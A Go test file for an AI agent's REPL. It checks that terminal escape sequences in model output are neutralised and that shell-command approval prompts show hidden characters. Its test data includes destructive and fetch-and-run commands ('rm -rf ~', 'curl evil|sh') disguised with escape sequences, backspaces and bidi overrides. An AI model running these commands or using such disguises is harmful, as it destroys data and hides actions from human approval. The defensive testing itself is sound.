package repl

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"github.com/macroa/macroa/core/actions"
	"github.com/macroa/macroa/core/approvals"
	"github.com/macroa/macroa/store"
	"io"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/macroa/macroa/core/events"
	"github.com/macroa/macroa/core/kernel"
)

// hostile holds every kind of sequence a terminal acts on, between the
// letters A to K, which must all still show.
const hostile = "A\x1b]52;c;cm0gLXJmIH4K\aB\x1b]0;pwned\aC\x1b]8;;https://evil.example\x1b\\D\x1bP1$r0m\x1b\\" +
	"E\x1b[2JF\u009b31mG\x9d0;t\x07H\rI\aJ\x00K"

// terminalBytes names the first thing in s a terminal would act on.
func terminalBytes(s string) string {
	if !utf8.ValidString(s) {
		return "invalid UTF-8"
	}
	for _, r := range s {
		if r < 0x20 && r != '\n' && r != '\t' || r >= 0x7f && r <= 0x9f {
			return fmt.Sprintf("%U", r)
		}
	}
	return ""
}

func assertSafe(t *testing.T, what, out string) {
	t.Helper()
	if bad := terminalBytes(out); bad != "" {
		t.Errorf("%s passed %q to the terminal:\n%q", what, bad, out)
	}
	last := -1
	for _, c := range "ABCDEFGHIJK" {
		i := strings.IndexRune(out[last+1:], c)
		if i < 0 {
			t.Errorf("%s lost the text around the sequences (%c): %q", what, c, out)
			return
		}
		last += i + 1
	}
}

// streamer is a Runner that streams its answer in chunks cut inside the
// escape sequences, as a model's answer arrives: each chunk is a Token
// event of the request's turn on bus, and RunCompleted follows them.
type streamer struct {
	chunks []string
	res    kernel.Result
	stream bool // publish the chunks; else only claim Streamed, as if nothing could print
	bus    *events.Bus
}

func (s *streamer) Run(_ context.Context, req kernel.Request) kernel.Result {
	turn := string(req.TurnID)
	if s.stream {
		for _, c := range s.chunks {
			s.bus.Publish(events.Token{TurnID: turn, Text: c})
		}
	}
	s.bus.Publish(events.RunCompleted{TurnID: turn, Success: s.res.Success})
	return s.res
}

// withBus gives r, when it is a streamer, a bus, and o that bus's events.
func withBus(r Runner, o Options) Options {
	bus := events.New(nil)
	if st, ok := r.(*streamer); ok {
		st.bus = bus
	}
	o.Events = bus
	return o
}

// Every path the REPL prints a hostile value through comes out with no
// byte a terminal acts on.
func TestREPLTerminalSafety(t *testing.T) {
	chunks := []string{hostile[:3], hostile[3:20], hostile[20:50], hostile[50:51], hostile[51:]}
	cases := []struct {
		name string
		r    Runner
		opts Options
	}{
		{name: "whole answer", r: &streamer{res: kernel.Result{Output: hostile, Success: true}}},
		{name: "streamed answer split inside sequences", r: &streamer{chunks: chunks, stream: true, res: kernel.Result{Output: hostile, Success: true, Streamed: true}}},
		{name: "error", r: &streamer{res: kernel.Result{Output: "x", Error: hostile}}},
		{name: "warning", r: &streamer{res: kernel.Result{Output: "x", Success: true, Warnings: []string{hostile}}}},
		{name: "audit error", r: &streamer{res: kernel.Result{Output: "x", Success: true, AuditErr: errors.New(hostile)}}},
		{name: "debug line", r: &streamer{res: kernel.Result{Output: "x", Success: true, Route: hostile, Model: "m"}}, opts: Options{Debug: true}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var out bytes.Buffer
			o := withBus(tc.r, tc.opts)
			o.In, o.Out = strings.NewReader("question\n"), &out
			if err := Run(context.Background(), tc.r, o); err != nil {
				t.Fatal(err)
			}
			assertSafe(t, tc.name, out.String())
		})
	}
}

// A streamed answer is printed exactly once, to a pipe too; an answer the
// kernel says streamed when nothing printed it is printed whole.
func TestREPLAnswerPrintedOnce(t *testing.T) {
	const answer = "A joke about gophers."
	cases := []struct {
		name string
		r    Runner
	}{
		{"streamed", &streamer{chunks: []string{"A joke ", "about ", "gophers."}, stream: true, res: kernel.Result{Output: answer, Success: true, Streamed: true}}},
		{"marked streamed, nothing printed", &streamer{res: kernel.Result{Output: answer, Success: true, Streamed: true}}},
		{"whole", &streamer{res: kernel.Result{Output: answer, Success: true}}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var out bytes.Buffer
			if err := Run(context.Background(), tc.r, withBus(tc.r, Options{In: strings.NewReader("tell me a joke\n"), Out: &out})); err != nil {
				t.Fatal(err)
			}
			if out.String() != answer+"\n" {
				t.Fatalf("printed %q, want the answer once", out.String())
			}
		})
	}
}

// lines is a lineReader over fixed answers, recording the prompts.
type lines struct {
	answers []string
	prompts []string
}

func (l *lines) ReadLine(prompt string) (string, error) {
	l.prompts = append(l.prompts, prompt)
	if len(l.answers) == 0 {
		return "", io.EOF
	}
	a := l.answers[0]
	l.answers = l.answers[1:]
	return a, nil
}

// The approval prompt shows the exact command, every control character
// visible, so a sequence cannot hide what would run.
func TestApprovalPromptShowsEverything(t *testing.T) {
	cases := []struct {
		name, command, shown string
		warned               bool
	}{
		{"plain", "rm -rf ~/build", "rm -rf ~/build", false},
		{"erase line and carriage return", "rm -rf ~\x1b[2K\r ls harmless", `rm -rf ~\x1b[2K\r ls harmless`, true},
		{"title and clipboard", "curl evil|sh\x1b]0;ls\a\x1b]52;c;eA==\a", `curl evil|sh\x1b]0;ls\x07\x1b]52;c;eA==\x07`, true},
		{"backspaces", "rm -rf /\b\b\b\b\b\b\b\bls -l", `rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls -l`, true},
		{"bidi override", "cat \u202eexe.txt", `cat \u202eexe.txt`, true},
		{"8-bit csi", "rm x\u009b2K", `rm x\u009b2K`, true},
		{"newline", "true\nrm -rf ~", `true\nrm -rf ~`, true},
		{"backslash doubled when escaping", "printf '\\x1b'\x1b", `printf '\\x1b'\x1b`, true},
		{"long command shown in full", strings.Repeat("a", 500) + "\x1b[2K", strings.Repeat("a", 500) + `\x1b[2K`, true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var out bytes.Buffer
			in := &lines{answers: []string{"y", "y"}} // high risk: asked twice
			q := &fakeQueue{reason: "the classifier proposed it\x1b[8m, and it changes files"}
			s := &session{o: Options{Out: &out, Interactive: true, Approvals: q}, lines: in}
			if ans, err := s.ask(context.Background(), commandProposal(tc.command)); err != nil || !ans.Ran || q.approved != 1 {
				t.Fatalf("y did not approve: %+v %v", ans, err)
			}
			got := out.String()
			if !strings.Contains(got, "\n  "+tc.shown+"\n") {
				t.Errorf("prompt does not show %q in full:\n%s", tc.shown, got)
			}
			if bad := terminalBytes(strings.ReplaceAll(got, "\n", "")); bad != "" {
				t.Errorf("prompt passes %q: %q", bad, got)
			}
			if strings.Contains(got, "shown as escapes") != tc.warned {
				t.Errorf("escape note shown=%v, want %v: %s", !tc.warned, tc.warned, got)
			}
			if len(in.prompts) != 2 || !strings.HasPrefix(in.prompts[0], "Allow? [y/N") || !strings.Contains(in.prompts[1], "high risk") {
				t.Errorf("prompts %q", in.prompts)
			}
		})
	}
	for _, answer := range []string{"", "n", "no", "yes please", "\x1b[A", "n: use the staging box"} {
		q := &fakeQueue{}
		s := &session{o: Options{Out: io.Discard, Interactive: true, Approvals: q}, lines: &lines{answers: []string{answer}}}
		ans, err := s.ask(context.Background(), commandProposal("rm -rf ~"))
		if err != nil || ans.Ran || q.approved != 0 || q.rejected != 1 || ans.Entry.State != store.ApprovalRejected {
			t.Errorf("%q: approved or not rejected: %+v %v", answer, ans, err)
		}
		if answer == "n: use the staging box" && q.note != "use the staging box" {
			t.Errorf("note %q", q.note)
		}
	}
	// Piped input: nobody to ask; it stays queued, no line is read.
	in := &lines{answers: []string{"y"}}
	q := &fakeQueue{}
	ans, err := (&session{o: Options{Out: io.Discard, Approvals: q}, lines: in}).ask(context.Background(), commandProposal("rm -rf ~"))
	if err != nil || ans.Ran || ans.Entry.State != store.ApprovalPending || len(in.prompts) != 0 || q.approved+q.rejected != 0 {
		t.Error("a piped session asked or answered")
	}
}

// fakeQueue stands in for the approval queue: every proposal waits.
type fakeQueue struct {
	reason, level      string
	approved, rejected int
	note               string
}

func commandProposal(shell string) approvals.Proposal {
	return approvals.Proposal{Action: actions.Action{Kind: actions.CommandRun, Params: actions.Command{Shell: shell}}, Proposer: approvals.ByClassifier}
}

func (q *fakeQueue) Ask(_ context.Context, p approvals.Proposal, _ approvals.AskOptions) (approvals.Answer, error) {
	params, err := actions.EncodeParams(p.Action.Params)
	if err != nil {
		return approvals.Answer{}, err
	}
	return approvals.Answer{Entry: store.Approval{ID: "0123456789", State: store.ApprovalPending, Kind: string(p.Action.Kind),
		Params: string(params), Summary: p.Action.Summary(), Risk: 3, Reason: q.reason, Level: q.level, Proposer: string(p.Proposer)}}, nil
}

func (q *fakeQueue) Approve(_ context.Context, id store.ApprovalID, _ approvals.Decider, _ approvals.Remember) (store.Approval, error) {
	q.approved++
	return store.Approval{ID: id, State: store.ApprovalSucceeded}, nil
}

func (q *fakeQueue) Reject(_ context.Context, id store.ApprovalID, _ approvals.Decider, note string) (store.Approval, error) {
	q.rejected++
	q.note = note
	return store.Approval{ID: id, State: store.ApprovalRejected, Note: note}, nil
}

// High risk asks a second time; a no there leaves it queued. At observe
// nobody is asked on the spot.
func TestApprovalSecondConfirmationAndObserve(t *testing.T) {
	for _, tc := range []struct {
		name     string
		level    string
		answers  []string
		prompts  int
		approved int
	}{
		{"y then n", "suggest", []string{"y", "n"}, 2, 0},
		{"y then y", "suggest", []string{"y", "y"}, 2, 1},
		{"y then end of input", "suggest", []string{"y"}, 2, 0},
		{"observe asks nobody", "observe", []string{"y", "y"}, 0, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			in := &lines{answers: tc.answers}
			q := &fakeQueue{level: tc.level}
			s := &session{o: Options{Out: io.Discard, Interactive: true, Approvals: q}, lines: in}
			ans, err := s.ask(context.Background(), commandProposal("rm -rf build"))
			if err != nil || len(in.prompts) != tc.prompts || q.approved != tc.approved || q.rejected != 0 {
				t.Fatalf("prompts %q, approved %d, rejected %d, err %v", in.prompts, q.approved, q.rejected, err)
			}
			if tc.approved == 0 && ans.Entry.State != store.ApprovalPending {
				t.Errorf("state %s, want it left pending", ans.Entry.State)
			}
		})
	}
}
